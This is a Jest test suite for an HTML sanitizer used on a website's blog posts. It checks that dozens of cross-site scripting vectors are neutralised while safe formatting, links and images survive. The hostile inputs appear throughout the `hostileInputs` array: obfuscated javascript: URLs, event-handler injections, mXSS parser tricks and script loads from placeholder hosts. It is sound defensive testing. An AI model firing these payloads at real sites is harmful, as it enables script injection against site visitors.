/** @jest-environment jsdom */
import { sanitizePostBody } from "../sanitize-post-body";

const siteUrl = "https://www.northbeam.studio";
const sanitize = (html: string): string => sanitizePostBody(html, { siteUrl });

/** Parses HTML the way a browser would for a fragment, without running anything. */
const parse = (html: string): DocumentFragment => {
  const template = document.createElement("template");
  template.innerHTML = html;
  return template.content;
};

const forbiddenElements = new Set([
  "script",
  "iframe",
  "object",
  "embed",
  "style",
  "link",
  "meta",
  "base",
  "form",
  "input",
  "button",
  "svg",
  "math",
  "template",
  "noscript",
]);
const forbiddenAttributes = new Set(["style", "srcdoc", "formaction", "xlink:href"]);
const urlAttributes = new Set(["href", "src", "action", "formaction", "xlink:href", "srcset", "data", "poster", "background"]);
const dangerousScheme = /^(javascript|vbscript|data):/;

// What a browser ignores inside a URL (whitespace and control characters) must not hide a scheme.
const normaliseUrl = (value: string): string => value.replace(/[\p{Cc}\s]/gu, "").toLowerCase();

/** Fails unless `html`, parsed by a browser-grade parser, holds nothing that can run script. */
const expectInert = (html: string): void => {
  const problems: string[] = [];
  for (const element of parse(html).querySelectorAll("*")) {
    const name = element.localName.toLowerCase();
    if (forbiddenElements.has(name)) problems.push(`<${name}>`);
    for (const { name: attribute, value } of element.attributes) {
      const lower = attribute.toLowerCase();
      if (lower.startsWith("on") || forbiddenAttributes.has(lower)) problems.push(`${name}[${lower}]`);
      if (urlAttributes.has(lower) && dangerousScheme.test(normaliseUrl(value))) {
        problems.push(`${name}[${lower}="${value}"]`);
      }
    }
  }
  expect(problems).toEqual([]);
  expect(html).not.toMatch(/<script/i);
};

// Sources: OWASP XSS Filter Evasion Cheat Sheet, PortSwigger XSS cheat sheet,
// HTML5 Security Cheatsheet (html5sec.org), and published DOMPurify/sanitize-html mXSS bypasses.
const hostileInputs: Array<[label: string, html: string]> = [
  // Script and event handlers
  ["plain script", "<script>alert(1)</script>"],
  ["script with external src", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>"],
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["img onmouseover, upper case", `<IMG SRC=# onmouseover="alert('xxs')">`],
  ["svg onload", "<svg onload=alert(1)>"],
  ["svg/onload without space", "<svg/onload=alert(1)>"],
  ["body onload", "<body onload=alert(1)>"],
  ["paragraph onclick", `<p onclick="alert(1)">click me</p>`],
  ["input autofocus onfocus", "<input autofocus onfocus=alert(1)>"],
  ["details ontoggle", "<details open ontoggle=alert(1)>"],
  ["marquee onstart", "<marquee onstart=alert(1)>x</marquee>"],
  ["audio onerror", "<audio src=x onerror=alert(1)>"],
  ["video source onerror", "<video><source onerror=alert(1)></video>"],
  ["custom element onafterscriptexecute", "<xss onafterscriptexecute=alert(1)><script>1</script>"],
  // Frames, plugins, documents
  ["iframe src javascript", `<iframe src="javascript:alert(1)"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`],
  ["iframe fallback content", "<iframe><img src=x onerror=alert(1)></iframe>"],
  ["object data javascript", `<object data="javascript:alert(1)"></object>`],
  ["object data text/html", `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`],
  ["object param", `<object><param name="src" value="javascript:alert(1)"></object>`],
  ["embed svg data", `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["meta refresh javascript", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`],
  ["meta refresh data", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`],
  ["base href", `<base href="javascript:alert(1)//"><a href="/x">x</a>`],
  ["link stylesheet", `<link rel="stylesheet" href="javascript:alert(1)">`],
  [
    "form action and button formaction",
    `<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">go</button></form>`,
  ],
  ["button formaction outside a form", `<button formaction="javascript:alert(1)">go</button>`],
  ["isindex", "<isindex type=image src=1 onerror=alert(1)>"],
  // javascript: and friends in links and images, obfuscated
  ["img src javascript", `<IMG SRC="javascript:alert('XSS');">`],
  ["href decimal entity", `<a href="&#106;avascript:alert(1)">x</a>`],
  [
    "href padded decimal entities without semicolons",
    `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">x</a>`,
  ],
  [
    "href hex entities",
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>`,
  ],
  ["href named entity colon", `<a href="javascript&colon;alert(1)">x</a>`],
  ["href tab inside scheme", `<a href="java\tscript:alert(1)">x</a>`],
  ["href encoded tab inside scheme", `<a href="jav&#x09;ascript:alert(1)">x</a>`],
  ["href newline inside scheme", `<a href="java\nscript:alert(1)">x</a>`],
  ["href encoded carriage return", `<a href="jav&#x0D;ascript:alert(1)">x</a>`],
  ["href mixed case", `<a href="JaVaScRiPt:alert(1)">x</a>`],
  ["href leading spaces", `<a href="  javascript:alert(1)">x</a>`],
  ["href leading control character", `<a href="&#14;  javascript:alert(1)">x</a>`],
  ["href raw control character", `<a href="\u0001javascript:alert(1)">x</a>`],
  ["href vbscript", `<a href="vbscript:msgbox(1)">x</a>`],
  ["href data text/html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`],
  ["href data with inline script", `<a href="data:text/html,<script>alert(1)</script>">x</a>`],
  ["img srcset javascript", `<img srcset="javascript:alert(1) 1x" src="/ok.png">`],
  ["img data src", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["protocol-relative image", `<img src="//evil.example/x.png">`],
  // CSS
  ["style expression()", `<p style="width: expression(alert(1))">x</p>`],
  ["style url(javascript:)", `<p style="background-image: url(javascript:alert(1))">x</p>`],
  ["style element @import", "<style>@import 'http://xss.rocks/xss.css';</style>"],
  // SVG and MathML
  ["math maction xlink:href", `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>`],
  [
    "svg animate href",
    `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>`,
  ],
  ["svg set href", `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>click</text></a></svg>`],
  ["svg use xlink:href data", `<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>`],
  ["svg CDATA", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"],
  // Malformed markup and parser differentials (mXSS)
  ["split script tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["unclosed img", "<img src=x onerror=alert(1)//"],
  ["comment hides an attribute", `<!--<img src="--><img src=x onerror=alert(1)//">`],
  ["CDATA outside foreign content", "<![CDATA[<script>alert(1)</script>]]>"],
  ["noscript title mXSS", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
  ["template content", "<template><img src=x onerror=alert(1)></template>"],
  ["textarea content", "<textarea><img src=x onerror=alert(1)></textarea>"],
  ["math mglyph style mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ["form/math namespace confusion", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"],
  ["svg style attribute breakout", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  ["select template style", "<select><template><style><img src=x onerror=alert(1)></style></template></select>"],
];

describe("sanitizePostBody: hostile input", () => {
  it("covers at least 30 cheat-sheet vectors", () => {
    expect(hostileInputs.length).toBeGreaterThanOrEqual(30);
  });

  it.each(hostileInputs)("neutralises %s", (_label, html) => {
    expectInert(sanitize(html));
  });

  it.each(hostileInputs)("is stable when re-sanitised: %s", (_label, html) => {
    const once = sanitize(html);
    expect(sanitize(once)).toBe(once);
  });

  it.each([
    `<a href="&#106;avascript:alert(1)">click</a>`,
    `<a href="java\tscript:alert(1)">click</a>`,
    `<a href="JaVaScRiPt:alert(1)">click</a>`,
    `<a href="  javascript:alert(1)">click</a>`,
    `<a href="vbscript:msgbox(1)">click</a>`,
    `<a href="data:text/html,x">click</a>`,
    `<a href="//evil.example/">click</a>`,
  ])("keeps the text but drops the href of %s", (html) => {
    expect(sanitize(html)).toBe("<a>click</a>");
  });

  it.each([
    `<img src="//evil.example/x.png">`,
    `<img src="/\\evil.example/x.png">`,
    `<img src="data:image/png;base64,AAAA">`,
    `<img src="ftp://files.example/x.png">`,
    `<img src="javascript:alert(1)">`,
  ])("drops the src of %s", (html) => {
    expect(parse(sanitize(html)).querySelector("img")?.hasAttribute("src")).toBe(false);
  });

  it("drops disallowed elements, keeping safe text only for harmless wrappers", () => {
    expect(sanitize("<div><span>kept</span></div>")).toBe("kept");
    expect(sanitize("<p>a<script>alert(1)</script>b</p>")).toBe("<p>ab</p>");
    expect(sanitize("<div>a<form>label<select><option>x</option></select></form>b</div>")).toBe("ab");
    expect(sanitize("<p>a<svg><text>hidden</text></svg>b</p>")).toBe("<p>ab</p>");
  });

  it("drops attributes that are not on the allow-list", () => {
    expect(sanitize(`<p id="x" class="y" style="color:red" onclick="z()" data-x="1" title="t">text</p>`)).toBe("<p>text</p>");
    expect(sanitize(`<h2 id="intro">Intro</h2>`)).toBe("<h2>Intro</h2>");
  });
});

describe("expectInert (test helper)", () => {
  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    `<a href=" JaVa\tScRipt:alert(1)">x</a>`,
    `<a href="&#14;vbscript:x">x</a>`,
    `<img src="data:image/png;base64,AAAA">`,
    `<p style="color:red">x</p>`,
    `<svg><a xlink:href="#x">x</a></svg>`,
    `<iframe srcdoc="x"></iframe>`,
    `<button formaction="/x">x</button>`,
    "<p>&lt;script&gt; is text</p><SCRIPT>",
  ])("rejects %s", (html) => {
    expect(() => expectInert(html)).toThrow();
  });

  it("accepts ordinary content", () => {
    expect(() => expectInert(`<p>Text with <a href="https://example.com/javascript:">a link</a></p>`)).not.toThrow();
  });
});

describe("sanitizePostBody: safe content", () => {
  it("returns an empty string for empty or whitespace-only input", () => {
    expect(sanitize("")).toBe("");
    expect(sanitize("  \n\t ")).toBe("");
  });

  it("demotes h1 to h2 and keeps the other headings", () => {
    expect(sanitize("<h1>Title</h1><h2>A</h2><h3>B</h3><h4>C</h4><h5>D</h5><h6>E</h6>")).toBe(
      "<h2>Title</h2><h2>A</h2><h3>B</h3><h4>C</h4><h5>D</h5><h6>E</h6>",
    );
  });

  it("keeps paragraphs and inline formatting", () => {
    const html =
      "<p>Plain <strong>strong</strong> <em>em</em> <b>b</b> <i>i</i> <u>u</u> <s>s</s> " +
      "H<sub>2</sub>O x<sup>2</sup> <mark>mark</mark> <small>small</small> <kbd>Ctrl</kbd> <code>x</code></p>";
    expect(sanitize(html)).toBe(html);
    expect(sanitize("<p>one<br>two</p><hr>")).toBe("<p>one<br />two</p><hr />");
  });

  it("keeps lists, including an ordered list's start", () => {
    const html = `<ul><li>a</li><li>b</li></ul><ol start="3"><li>c</li></ol>`;
    expect(sanitize(html)).toBe(html);
  });

  it("keeps a code block with its language class and escaped text", () => {
    const html = `<pre><code class="language-ts">const a = 1 &lt; 2;</code></pre>`;
    expect(sanitize(html)).toBe(`<pre tabindex="0"><code class="language-ts">const a = 1 &lt; 2;</code></pre>`);
    expect(parse(sanitize(html)).querySelector("code")?.textContent).toBe("const a = 1 < 2;");
  });

  it("makes code blocks and tables keyboard-focusable so they can be scrolled, ignoring the CMS's tabindex", () => {
    expect(sanitize('<pre tabindex="-1">x</pre><table tabindex="5"><tr><td>1</td></tr></table>')).toBe(
      '<pre tabindex="0">x</pre><table tabindex="0"><tr><td>1</td></tr></table>',
    );
    expect(sanitize('<p tabindex="0">x</p>')).toBe("<p>x</p>");
  });

  it("keeps only language-* classes on code and pre", () => {
    expect(sanitize(`<pre class="hljs language-c++"><code class="language-ts evil">x</code></pre>`)).toBe(
      `<pre class="language-c++" tabindex="0"><code class="language-ts">x</code></pre>`,
    );
    expect(sanitize(`<code class="language-">x</code><code class="Language-TS">y</code>`)).toBe("<code>x</code><code>y</code>");
  });

  it("keeps a table with caption, sections, scope and spans", () => {
    const html =
      `<table tabindex="0"><caption>Plans</caption><thead><tr><th scope="col">Plan</th><th scope="col">Price</th></tr></thead>` +
      `<tbody><tr><th scope="row">Basic</th><td>$10</td></tr></tbody>` +
      `<tfoot><tr><td colspan="2" rowspan="1">Billed monthly</td></tr></tfoot></table>`;
    expect(sanitize(html)).toBe(html);
  });

  it("drops table and list attribute values that are not valid numbers or keywords", () => {
    expect(sanitize(`<table><tr><th scope="everything">a</th><td colspan="2;x">b</td></tr></table>`)).toBe(
      '<table tabindex="0"><tr><th>a</th><td>b</td></tr></table>',
    );
    expect(sanitize(`<ol start="javascript:alert(1)"><li>x</li></ol>`)).toBe("<ol><li>x</li></ol>");
  });

  it("keeps blockquotes and figures", () => {
    const html = "<blockquote><p>Ship it.</p></blockquote><figure><figcaption>Caption</figcaption></figure>";
    expect(sanitize(html)).toBe(html);
  });

  it("adds lazy loading and async decoding to images, keeping alt, title and size", () => {
    const img = parse(
      sanitize(`<img src="https://cdn.example/chart.png" alt="A chart" title="Growth" width="640" height="480">`),
    ).querySelector("img");
    expect(img).not.toBeNull();
    expect(Object.fromEntries([...(img?.attributes ?? [])].map((a) => [a.name, a.value]))).toEqual({
      src: "https://cdn.example/chart.png",
      alt: "A chart",
      title: "Growth",
      width: "640",
      height: "480",
      loading: "lazy",
      decoding: "async",
    });
  });

  it("gives images without alt an empty alt and overrides the CMS loading hints", () => {
    const img = parse(sanitize(`<img src="/uploads/a.png" loading="eager" decoding="sync" width="50%">`)).querySelector("img");
    expect(img?.getAttribute("src")).toBe("/uploads/a.png");
    expect(img?.getAttribute("alt")).toBe("");
    expect(img?.getAttribute("loading")).toBe("lazy");
    expect(img?.getAttribute("decoding")).toBe("async");
    expect(img?.hasAttribute("width")).toBe(false);
  });

  it("marks external links noopener noreferrer and drops the CMS rel and target", () => {
    expect(sanitize(`<a href="https://github.com/northbeam" rel="nofollow" target="_blank" title="Code">GitHub</a>`)).toBe(
      `<a href="https://github.com/northbeam" title="Code" rel="noopener noreferrer">GitHub</a>`,
    );
    expect(sanitize(`<a href="http://www.northbeam.studio.evil.example/">x</a>`)).toBe(
      `<a href="http://www.northbeam.studio.evil.example/" rel="noopener noreferrer">x</a>`,
    );
  });

  it.each([
    "https://www.northbeam.studio/services/",
    "HTTPS://WWW.NORTHBEAM.STUDIO/about/",
    "/contact/",
    "../blog/other-post/",
    "#section-2",
    "mailto:hello@northbeam.studio",
    "tel:+15551234567",
  ])("keeps %s as a link without rel", (href) => {
    const html = `<a href="${href}">x</a>`;
    expect(sanitize(html)).toBe(html);
  });

  it("rejects a malformed siteUrl instead of guessing", () => {
    expect(() => sanitizePostBody("<p>x</p>", { siteUrl: "northbeam.studio" })).toThrow();
  });
});
